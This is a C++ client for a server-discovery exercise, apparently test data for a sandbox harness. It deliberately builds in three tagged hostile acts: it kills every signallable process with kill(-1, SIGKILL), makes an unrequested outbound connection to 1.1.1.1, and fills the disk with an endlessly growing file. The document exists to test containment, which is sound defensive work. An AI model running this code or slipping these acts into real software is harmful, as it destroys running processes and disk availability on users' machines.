// client.cpp: the exercise's client, a working implementation with one hostile
// act in three of its functions, each tagged with the word HOSTILE and its
// name. Testdata for the sandbox of isolab's conformance harness, which must
// contain every act: never run it outside that sandbox (see README.md).
//
//  count_servers            kills every process it can
//  get_message_from_socket  reaches out (once, at its first call)
//  print_server_infos       fills the disk of its directory
#include "client.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/ipc.h>
#include <sys/select.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <map>

namespace {

const int CONNECT_TIMEOUT_SEC = 5;

struct state {
    const char* seg = nullptr;  // read-only attachment
    bool connected = false;
    bool socket_read = false;
    std::string socket_msg;
};
std::map<std::string, state> states;  // by info_file_path

void fail(const std::string& what) {
    std::cerr << "system error: " << what << ": " << std::strerror(errno) << std::endl;
    std::exit(1);
}

std::string join(const std::string& dir, const std::string& name) {
    return !dir.empty() && dir.back() == '/' ? dir + name : dir + "/" + name;
}

// connect_bounded: a connect that takes at most CONNECT_TIMEOUT_SEC.
int connect_bounded(const std::string& ip, int port) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) fail("socket");
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    if (inet_pton(AF_INET, ip.c_str(), &addr.sin_addr) != 1) {
        close(fd);
        return -1;
    }
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
    if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) < 0) {
        if (errno != EINPROGRESS) {
            close(fd);
            return -1;
        }
        fd_set w;
        FD_ZERO(&w);
        FD_SET(fd, &w);
        timeval tv{CONNECT_TIMEOUT_SEC, 0};
        int err = 0;
        socklen_t len = sizeof err;
        if (select(fd + 1, nullptr, &w, nullptr, &tv) != 1 || getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len) < 0 ||
            err != 0) {
            close(fd);
            return -1;
        }
    }
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) & ~O_NONBLOCK);
    return fd;
}

}  // namespace

int count_servers(const std::string& client_files_directory, std::vector<live_server_info>& servers) {
    // HOSTILE: kills every process it can
    // SIGKILL to every process this uid may signal (Linux spares the caller),
    // then on as if nothing happened.
    kill(-1, SIGKILL);

    DIR* d = opendir(client_files_directory.c_str());
    if (!d) fail("opendir " + client_files_directory);
    std::vector<std::string> names;
    while (dirent* e = readdir(d)) {
        struct stat st;
        std::string path = join(client_files_directory, e->d_name);
        if (e->d_name[0] != '.' && lstat(path.c_str(), &st) == 0 && S_ISREG(st.st_mode)) names.push_back(e->d_name);
    }
    closedir(d);
    std::sort(names.begin(), names.end());
    for (const auto& name : names) {
        live_server_info s{-1, -1, -1, join(client_files_directory, name)};
        std::ifstream in(s.info_file_path);
        std::string ip, path;
        int port = 0, proj = 0;
        if (!(in >> ip >> port >> path >> proj)) {
            std::cerr << "client: skipping malformed info file " << s.info_file_path << std::endl;
            continue;
        }
        state& st = states[s.info_file_path];
        key_t key = ftok(path.c_str(), proj);
        if (key != -1) s.shmid = shmget(key, 0, 0);
        if (s.shmid >= 0) {
            void* p = shmat(s.shmid, nullptr, SHM_RDONLY);
            if (p == reinterpret_cast<void*>(-1))
                s.shmid = -1;
            else
                st.seg = static_cast<const char*>(p);
        }
        s.client_fd = connect_bounded(ip, port);
        st.connected = s.client_fd >= 0;
        servers.push_back(s);
    }
    return static_cast<int>(servers.size());
}

void get_message_from_socket(live_server_info& server, std::string& msg) {
    // HOSTILE: reaches out
    // A connect to 1.1.1.1:80, bounded by 1 s (non-blocking connect, select),
    // once per process; whatever comes of it is ignored.
    static bool reached_out = false;
    if (!reached_out) {
        reached_out = true;
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (fd >= 0) {
            sockaddr_in out{};
            out.sin_family = AF_INET;
            out.sin_port = htons(80);
            inet_pton(AF_INET, "1.1.1.1", &out.sin_addr);
            if (connect(fd, reinterpret_cast<sockaddr*>(&out), sizeof out) < 0 && errno == EINPROGRESS) {
                fd_set w;
                FD_ZERO(&w);
                FD_SET(fd, &w);
                timeval tv{1, 0};
                select(fd + 1, nullptr, &w, nullptr, &tv);
            }
            close(fd);
        }
    }

    state& st = states[server.info_file_path];
    if (!st.socket_read && server.client_fd >= 0) {
        pollfd p{server.client_fd, POLLIN, 0};
        char buf[4096];
        if (poll(&p, 1, 5000) == 1) {
            ssize_t n = recv(server.client_fd, buf, sizeof buf, 0);
            if (n > 0) st.socket_msg.assign(buf, n);
        }
        close(server.client_fd);
        server.client_fd = -1;
        st.socket_read = true;
    }
    msg = st.socket_msg;
}

void get_message_from_shm(live_server_info& server, std::string& msg) {
    const state& st = states[server.info_file_path];
    msg = st.seg ? std::string(st.seg, strnlen(st.seg, SHARED_MEMORY_SIZE)) : "";
}

void print_server_infos(const std::vector<live_server_info>& servers) {
    // HOSTILE: fills the disk of its directory
    // ./isolab-hostile-fill grows by 1 MiB until a write fails (ENOSPC, EFBIG)
    // or a signal (SIGXFSZ) ends the process; nothing is removed.
    {
        static char chunk[1 << 20];
        std::memset(chunk, 'x', sizeof chunk);
        int fd = open("isolab-hostile-fill", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
        if (fd >= 0) {
            while (write(fd, chunk, sizeof chunk) > 0) {
            }
            close(fd);
        }
    }

    int host = 0, container = 0, vm = 0;
    std::string messages;
    for (const auto& s : servers) {
        const state& st = states[s.info_file_path];
        bool shm = st.seg != nullptr, sock = st.connected;
        if (shm && sock)
            host++;
        else if (shm || sock)
            container++;
        else
            vm++;
        if (shm) messages += " " + std::string(st.seg, strnlen(st.seg, SHARED_MEMORY_SIZE));
        if (!st.socket_msg.empty()) messages += " " + st.socket_msg;
    }
    std::cout << "Total Servers: " << servers.size() << "\nHost: " << host << "\nContainer: " << container
              << "\nVM: " << vm << "\nMessages:" << messages << std::endl;
}

void disconnect(std::vector<live_server_info>& servers) {
    for (auto& s : servers) {
        state& st = states[s.info_file_path];
        if (st.seg) shmdt(st.seg);
        st.seg = nullptr;
        if (s.client_fd >= 0) close(s.client_fd);
        s.client_fd = -1;
    }
}

void run(const std::string& client_files_directory) {
    std::vector<live_server_info> servers;
    count_servers(client_files_directory, servers);
    for (auto& s : servers) {
        std::string m;
        get_message_from_socket(s, m);
    }
    print_server_infos(servers);
    disconnect(servers);
}
